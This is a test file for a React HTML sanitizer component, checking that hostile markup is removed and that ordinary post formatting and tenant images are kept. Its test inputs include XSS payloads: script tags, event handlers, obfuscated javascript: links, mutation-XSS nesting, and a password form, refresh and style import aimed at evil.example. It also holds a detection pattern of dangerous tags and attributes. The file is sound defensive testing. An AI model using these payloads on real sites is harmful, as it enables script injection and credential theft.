import * as React from 'react';
import { existsSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { fireEvent, render, screen } from '@testing-library/react';
import type { Html } from '../../core/shared';
import { enUs } from '../../loc';
import { AllStringsProvider } from '../app/AllStrings';
import { SurroundingsProvider } from '../app/Surroundings';
import type { Surroundings } from '../app/Surroundings';
import { SafeHtml } from './SafeHtml';
import { safeNodes, safeText } from './SafeHtmlPolicy';

const options = { tenantHost: 'contoso.sharepoint.com', foreignImages: 'ask' } as const;

function show(html: string): HTMLElement {
  const surroundings = { locale: 'en-US', strings: enUs } as unknown as Surroundings;
  return render(<SurroundingsProvider value={surroundings}><AllStringsProvider value={enUs}><SafeHtml html={html as Html} /></AllStringsProvider></SurroundingsProvider>).container;
}

/** Everything in a piece of the page that could run, fetch, navigate by itself or pose as part of the page. */
function dangers(root: ParentNode): readonly string[] {
  const found: string[] = [];
  root.querySelectorAll('*').forEach(element => {
    if (/^(script|style|iframe|frame|object|embed|applet|base|meta|link|form|input|select|textarea|svg|math|template|audio|video|source|noscript|xmp|title|marquee)$/i.test(element.tagName)) {
      found.push(element.tagName);
    }
    Array.from(element.attributes).forEach(({ name, value }) => {
      if (/^on|^(id|name|class|srcdoc|srcset|action|formaction|background|ping|xlink:href|is|slot|part)$/i.test(name)) found.push(`${element.tagName}[${name}]`);
      if (/^(href|src)$/i.test(name) && !/^(https?:\/\/|mailto:|\/(?!\/)|data:image\/(png|jpe?g|gif|webp);base64,)/i.test(value.trim())) found.push(`${name}=${value}`);
      if (name === 'style' && /url|expression|position|behavior|import|@|\\|content|var\(/i.test(value)) found.push(`style=${value}`);
    });
  });
  return found;
}

const dataFolder = process.env.KNOWHOW_DATA ?? resolve(__dirname, '../../../../shared/data');
const fixtures = resolve(dataFolder, 'hostile/dompurify-expect.json');
const known = existsSync(fixtures) ? JSON.parse(readFileSync(fixtures, 'utf8')) as readonly { title?: string; payload: string }[] : [];

describe('nothing that could act remains of', () => {
  (known.length > 0 ? test : test.skip)('any published attack', () => {
    const left = known.map(({ title, payload }) => ({ title, payload, dangers: dangers(safeNodes(payload, options)) })).filter(entry => entry.dangers.length > 0);
    expect(left).toEqual([]);
    expect(known.length).toBeGreaterThan(200);
  });

  test.each([
    ['a script', '<p>a<script>alert(1)</script></p>'],
    ['a handler', '<img src="/x.png" onerror="alert(1)">'],
    ['a handler without quotes and blanks', '<svg/onload=alert(1)>'],
    ['a script address', '<a href="javascript:alert(1)">x</a>'],
    ['a script address with a tab inside', '<a href="java\tscript:alert(1)">x</a>'],
    ['an encoded script address', '<a href="&#106;avascript:alert(1)">x</a>'],
    ['a data page', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['an address without a scheme of another host', '<a href="//evil.example">x</a>'],
    ['an address with backslashes', '<a href="/\\evil.example">x</a>'],
    ['an svg as a data image', '<img src="data:image/svg+xml;base64,PHN2Zy8+">'],
    ['a form', '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>'],
    ['a frame', '<iframe src="https://evil.example"></iframe>'],
    ['a name that shadows the page', '<a id="location" name="cookie" href="https://x.example">x</a>'],
    ['math that changes how text is read', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
    ['a base address', '<base href="https://evil.example/"><a href="/x">x</a>'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['a style that covers the page', '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>'],
    ['a style element', '<style>@import "https://evil.example"</style><p>x</p>'],
    ['classes of the page', '<div class="ms-Dialog-main">x</div>']
  ])('%s', (_name, html) => {
    expect(dangers(safeNodes(html, options))).toEqual([]);
  });

  test('what was clean stays clean when it is saved and read again', () => {
    const once = safeText('<p style="text-align:center">a<b>b</b><a href="https://x.example">c</a></p>', options);
    expect(safeText(once, options)).toBe(once);
  });
});

describe('what classic posts are made of stays', () => {
  test.each([
    ['<p>a <strong>b</strong> <em>c</em></p>', '<p>a <strong>b</strong> <em>c</em></p>'],
    ['<div class="ExternalClass1"><p>a</p></div>', '<div><p>a</p></div>'],
    ['<font color="red" face="Arial">a</font>', 'a'],
    ['<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>', '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>'],
    ['<p style="text-align: center; color: red">a</p>', '<p style="text-align: center">a</p>'],
    ['<ol start="3"><li>a</li></ol>', '<ol start="3"><li>a</li></ol>']
  ])('%s', (html, expected) => {
    expect(safeText(html, options)).toBe(expected);
  });

  test('links open apart and know nothing of where they came from', () => {
    const link = safeNodes('<a href="https://x.example" target="_self" rel="opener">x</a>', options).querySelector('a');
    expect(link?.getAttribute('rel')).toBe('noopener');
    expect(link?.getAttribute('target')).toBe('_blank');
  });
});

describe('images', () => {
  test('of the tenant are shown', () => {
    const nodes = safeNodes('<img src="/sites/a/x.png" alt="x"><img src="https://contoso.sharepoint.com/y.png">', options);
    expect(Array.from(nodes.querySelectorAll('img')).map(image => image.getAttribute('src'))).toEqual(['/sites/a/x.png', 'https://contoso.sharepoint.com/y.png']);
  });

  test('from elsewhere are not fetched before somebody asks', () => {
    const container = show('<p>See <img src="https://tracker.example/pixel.gif?who=me" alt="chart"></p>');
    expect(container.querySelector('img')).toBeNull();
    fireEvent.click(screen.getByRole('button', { name: 'Show image from tracker.example' }));
    expect(screen.getByRole('img', { name: 'chart' })).toHaveAttribute('src', 'https://tracker.example/pixel.gif?who=me');
    expect(screen.getByRole('img', { name: 'chart' })).toHaveAttribute('referrerpolicy', 'no-referrer');
  });

  test('of a host that only looks like the tenant wait too', () => {
    const nodes = safeNodes('<img src="https://contoso.sharepoint.com.evil.example/x.png"><img src="https://contoso.sharepoint.com@evil.example/x.png">', options);
    expect(Array.from(nodes.querySelectorAll('img')).some(image => image.hasAttribute('src'))).toBe(false);
  });

  test('that are pasted from elsewhere into a text go', () => {
    expect(safeText('<p>a<img src="https://x.example/a.png">b</p>', { ...options, foreignImages: 'drop' })).toBe('<p>ab</p>');
  });
});

test('a very long text is shown by its beginning, and whole when asked for', () => {
  const container = show(`<p>first</p>${`<p>${'more words '.repeat(1000)}</p>`.repeat(31)}<p>the end</p>`);
  expect(container).toHaveTextContent(/^This text is very long\. Here is its beginning\.first/);
  expect(container).not.toHaveTextContent('the end');
  fireEvent.click(screen.getByRole('button', { name: /^Show all \(333 KB\)/ }));
  expect(container).toHaveTextContent('the end');
});

test('another text takes the place of the first one', () => {
  const surroundings = { locale: 'en-US', strings: enUs } as unknown as Surroundings;
  const body = (html: string): React.ReactElement => <SurroundingsProvider value={surroundings}><AllStringsProvider value={enUs}><SafeHtml html={html as Html} /></AllStringsProvider></SurroundingsProvider>;
  const { container, rerender } = render(body('<p>one</p>'));
  rerender(body('<p>two</p>'));
  expect(container).toHaveTextContent(/^two$/);
});
